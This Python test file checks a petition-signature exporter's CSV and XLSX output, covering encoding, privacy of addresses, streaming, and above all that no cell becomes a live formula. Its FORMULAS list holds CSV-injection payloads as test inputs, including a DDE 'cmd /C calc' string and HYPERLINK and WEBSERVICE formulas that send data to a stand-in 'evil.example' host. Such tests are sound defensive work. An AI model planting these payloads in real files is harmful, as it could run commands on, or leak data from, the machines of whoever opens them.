"""CSV and spreadsheet: everything is there, and nothing in it runs."""

import csv
import datetime as dt
import io
import re
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

from signatures.exports import columns, comma, sheet
from signatures.exports.document import OrganiserRow
from tests import paper, world

DAY = dt.date(2026, 11, 3)
SNAPSHOT = dt.datetime(2026, 11, 20, 9, 14, tzinfo=dt.UTC)
FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    '"=1+1',
    "'=1",
    "a,=1",
    "a;=1+1",
    "a|=1",
    "a\t=1",
    "x\n=1",
    "\";=cmd|' /C calc'!A0",
    "a, =1",
    "\uff1d1+1",
    "\uff0b1",
    '=HYPERLINK("http://evil.example?"&A1)',
    '=WEBSERVICE("http://evil.example")',
    "\ufeff=1",
    "\xa0=1",
]
STARTS = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def row(name: str, **changes: object) -> OrganiserRow:
    given: dict[str, object] = {"position": 1, "name": name, "signed_on": DAY}
    return OrganiserRow(**{**given, **changes})  # type: ignore[arg-type]


def written(*rows: OrganiserRow) -> str:
    return b"".join(comma.stream(rows)).decode()


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_file_is_utf8_with_a_mark_and_rfc_4180() -> None:
    text = written(row('Ada "the first", Countess', comment="two\nlines"), row("محمد"))
    assert text.startswith("\ufeff")
    assert text.count("\r\n") == 3
    assert '"Ada ""the first"", Countess"' in text
    assert [person["name"] for person in parsed(text)] == ['Ada "the first", Countess', "محمد"]
    assert parsed(text)[0]["comment"] == "two\nlines"
    assert parsed(text)[0]["signed_on"] == "2026-11-03"


def test_an_address_is_given_only_of_those_who_wished_for_updates() -> None:
    ada, joan = parsed(
        written(
            row("Ada", email="ada@example.org"), row("Joan", email="joan@example.org", updates=True)
        )
    )
    assert (ada["email"], ada["updates"]) == ("", "no")
    assert (joan["email"], joan["updates"]) == ("joan@example.org", "yes")


def test_the_organiser_sees_withheld_people_and_that_they_are() -> None:
    (ada,) = parsed(written(row("Ada", withheld=True)))
    assert (ada["name"], ada["withheld"]) == ("Ada", "yes")


def test_a_public_table_has_no_column_for_addresses() -> None:
    text = b"".join(comma.stream([paper.row("Ada")], columns=columns.PUBLIC)).decode()
    assert not {"email", "updates", "ref", "language"} & set(parsed(text)[0])


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_t30_no_cell_of_the_csv_is_a_formula(formula: str, separator: str) -> None:
    text = written(row(formula, title=formula, affiliation=formula, place=formula, comment=formula))
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        source = io.StringIO(text.removeprefix("\ufeff"), newline="")
        for line in csv.reader(source, delimiter=separator, quoting=quoting):
            for cell in line:
                assert not STARTS.match(cell.strip(' "\xa0').lstrip("\ufeff"))


def test_t30_pythons_own_writer_would_have_let_them_through() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(["=1+1"])
    assert STARTS.match(out.getvalue())


def test_ordinary_text_is_left_alone() -> None:
    for text in ("Anne-Marie O'Neill", "a - b", "1+1=2", "C++ and @joan", "Zoë, née Å"):
        assert comma.harmless(text) == text


def test_rows_are_streamed_not_held() -> None:
    def many() -> Iterator[OrganiserRow]:
        for i in range(1, 20_001):
            yield row("Ada " * 10, position=i, comment="word " * 100)

    tracemalloc.start()
    size = sum(len(piece) for piece in comma.stream(many()))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert size > 10_000_000
    assert peak < 3_000_000


def cells(path: Path) -> list[tuple[str, str]]:
    """Type and text of every cell of the first sheet."""
    with zipfile.ZipFile(path) as book:
        tree = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not tree.findall(f".//{space}f")
    return [
        (cell.get("t", "n"), "".join(str(text) for text in cell.itertext()))
        for cell in tree.iter(f"{space}c")
    ]


def test_t30_every_text_of_the_spreadsheet_is_a_text(tmp_path: Path) -> None:
    out = tmp_path / "letter.xlsx"
    sheet.write([row(formula) for formula in FORMULAS], out, snapshot=SNAPSHOT)
    kinds = {kind for kind, text in cells(out) if STARTS.match(text)}
    assert kinds == {"inlineStr"}
    assert ("inlineStr", "=1+1") in cells(out)


def test_a_link_in_a_spreadsheet_is_only_text(tmp_path: Path) -> None:
    out = tmp_path / "letter.xlsx"
    sheet.write([row("https://evil.example/")], out, snapshot=SNAPSHOT)
    with zipfile.ZipFile(out) as book:
        assert not [name for name in book.namelist() if "rels" in name and "sheet1" in name]


def test_names_from_everywhere_arrive_in_both(tmp_path: Path) -> None:
    people = list(world.rows(500))
    text = b"".join(comma.stream(people, columns=columns.PUBLIC)).decode()
    assert [person["name"] for person in parsed(text)] == [person.name for person in people]
    out = tmp_path / "letter.xlsx"
    told: list[int] = []
    sheet.write(people, out, snapshot=SNAPSHOT, columns=columns.PUBLIC, progress=told.append)
    texts = {text for _, text in cells(out)}
    assert {person.name for person in people if person.name} <= texts
    assert told[-1] == 500
